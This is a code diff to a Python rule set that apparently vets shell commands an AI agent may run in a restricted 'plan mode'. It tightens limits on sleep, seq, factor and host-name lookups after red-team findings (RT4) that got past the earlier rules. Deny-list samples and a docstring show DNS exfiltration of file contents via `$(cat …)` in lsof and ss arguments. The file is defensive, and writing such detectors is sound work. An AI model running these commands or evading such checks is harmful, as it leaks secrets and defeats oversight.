@@ -110,13 +110,15 @@ def read_names(inv, ctx) -> None:
 
 
 @rule("sleep_bounded", codes=[Code.BP406],
-      deny=["sleep 1000", "sleep inf", "for f in *; do sleep 1; done", "for f in a b c d; do sleep 10; done"],
+      deny=["sleep 1000", "sleep inf", "for f in *; do sleep 1; done", "for f in a b c d; do sleep 10; done",
+            "sleep 20; sleep 20"],
       allow=["sleep 2", "for f in a b; do sleep 1; done"])
 def sleep_bounded(inv, ctx) -> None:
     """`sleep` for longer than the plan-mode limit, or for a duration that is not a plain number.
     `sleep inf` never ends; the total may be at most SLEEP_LIMIT_SECONDS, counted
     over every run of the loops around it (one over a glob or `read` runs an
-    unknown number of times)."""
+    unknown number of times), and over every sleep in the script (red team RT4:
+    `sleep 30; sleep 30` slept a minute)."""
     total = 0.0
     for word in inv.positionals:
         match = _DURATION.fullmatch(word.value or "")
@@ -131,15 +133,17 @@ def sleep_bounded(inv, ctx) -> None:
                  "`sleep` may run an unknown number of times (in a loop over files or lines, or "
                  "for each path or input a wrapper finds), so it may sleep for ever",
                  "sleep once, outside the loop, or loop over words written out", Effect.HANG)
-    elif total * (ctx.repeats or 1) > SLEEP_LIMIT_SECONDS:
+    elif total * (ctx.repeats or 1) + ctx.slept > SLEEP_LIMIT_SECONDS:
         times = f" × {ctx.repeats} runs of its loop" if ctx.repeats != 1 else ""
+        before = f" after {ctx.slept:g} seconds of sleeps before it" if ctx.slept else ""
         ctx.deny(Code.BP406, inv.positionals[-1].span,
-                 f"`sleep` for {total:g} seconds{times} exceeds the plan-mode limit of {SLEEP_LIMIT_SECONDS}",
-                 f"sleep at most {SLEEP_LIMIT_SECONDS} seconds in all", Effect.HANG)
+                 f"`sleep` for {total:g} seconds{times}{before} exceeds the plan-mode limit of "
+                 f"{SLEEP_LIMIT_SECONDS}", f"sleep at most {SLEEP_LIMIT_SECONDS} seconds in all", Effect.HANG)
+    ctx.slept += total * (ctx.repeats or 1)
 
 
 @rule("seq_bounded", codes=[Code.BP406],
-      deny=["seq inf", "seq 1 100000000", "seq 1 1e-30 1.0000000000000001", "seq 0 1e-320 1",
+      deny=["seq inf", "seq 1 100000000", "seq 1 1e-30 1.0000000000000001", "seq 0 1e-320 1", "seq 1 1e-30 1",
             "for f in *; do seq 3; done"],
       allow=["seq 1 10", "seq 1e400 1", "seq -5 5", "for n in 1 2; do seq 5; done"])
 def seq_bounded(inv, ctx) -> None:
@@ -194,6 +198,16 @@ def _seq_lines(operands: list[str]) -> int | None:
         span = context.divide(context.subtract(last, first), step)
         if span < 0:
             return 0
+        # seq adds i * STEP to FIRST in long double (64-bit significand): a STEP
+        # below half a unit in the last place never moves it until i * STEP
+        # does (`seq 1 1e-30 1` printed millions of `1`s: red team RT4).
+        stuck = decimal.Decimal(0)
+        biggest = max(abs(first), abs(last))
+        if biggest:
+            exponent = (biggest.ln(context) / decimal.Decimal(2).ln(context)).to_integral_value(
+                rounding=decimal.ROUND_FLOOR, context=context)
+            stuck = context.divide(context.power(2, exponent - 64), abs(step))
+        span = max(span, stuck)
         if span >= _HUGE:
             return _HUGE
         return int(span.to_integral_value(rounding=decimal.ROUND_FLOOR, context=context)) + 1
@@ -263,7 +277,8 @@ _LSOF_HOST = re.compile(r"@(?!(?:[0-9.]+|\[[0-9A-Fa-f:.]+\])(?::|\Z))")
 
 
 @rule("no_name_lookups", codes=[Code.BP406],
-      deny=["ss -tn dst secret.example.com", "ss -tn 'dport = :ssh'", "lsof -i @secret.example.com"],
+      deny=["ss -tn dst secret.example.com", "ss -tn 'dport = :ssh'", "lsof -i @secret.example.com",
+            'lsof -n -i "@$(cat s).example"'],
       allow=["ss -tn state established '( dport = :22 or sport = :22 )'", "ss -tn dst 127.0.0.1",
              "lsof -i @127.0.0.1:8080", "lsof -i :8080", "lsof -iTCP -sTCP:LISTEN"],
       unknown_operands=True)
@@ -271,8 +286,10 @@ def no_name_lookups(inv, ctx) -> None:
     """Host names in ss filters and lsof -i addresses, which are looked up in DNS.
     The query carries the name the command chose: `ss dst "$(cat secret)".example`
     sends it to whoever serves that zone."""
-    if inv.spec.path[0] == "lsof":
-        words = [w for w in inv.words[1:] if w.value is not None and _LSOF_HOST.search(w.value)]
+    if inv.spec.path[0] == "lsof":  # a computed word may be -i's value (`-i "@$(…)"`) unless after `--`
+        ends = next((k for k, w in enumerate(inv.words) if w.value == "--"), len(inv.words))
+        words = [w for k, w in enumerate(inv.words[1:], 1)
+                 if (w.value is not None and _LSOF_HOST.search(w.value)) or (w.value is None and k < ends)]
     else:
         words = [w for w in inv.positionals
                  if w.value is None or any(token not in _SS_WORDS and not _SS_ADDRESS.fullmatch(token)
@@ -281,3 +298,17 @@ def no_name_lookups(inv, ctx) -> None:
         ctx.deny(Code.BP406, words[0].span,
                  f"`{words[0].text}` names a host or service that {inv.spec.path[0]} looks up, sending "
                  "the name off the machine", "write the address and port as numbers", Effect.NETWORK)
+
+
+@rule("factor_bounded", codes=[Code.BP406], deny=["factor 170141183460469241536131778892510818777"],
+      allow=["factor 42", "factor 18446744073709551557"])
+def factor_bounded(inv, ctx) -> None:
+    """factor on a number above 2^64, which may take longer than any plan-mode command should.
+    GNU factor (with GMP) takes any size: a product of two 64-bit primes ran for
+    minutes (red team RT4); up to 2^64 it ends in milliseconds."""
+    for word in inv.positionals:
+        digits = (word.value or "").strip().lstrip("+")
+        if not digits.isdigit() or int(digits) >= 2 ** 64:
+            ctx.deny(Code.BP406, word.span, f"`factor {word.text}` may run for minutes: only whole "
+                     "numbers below 2^64 end quickly", "factor a smaller number", Effect.HANG)
+            return
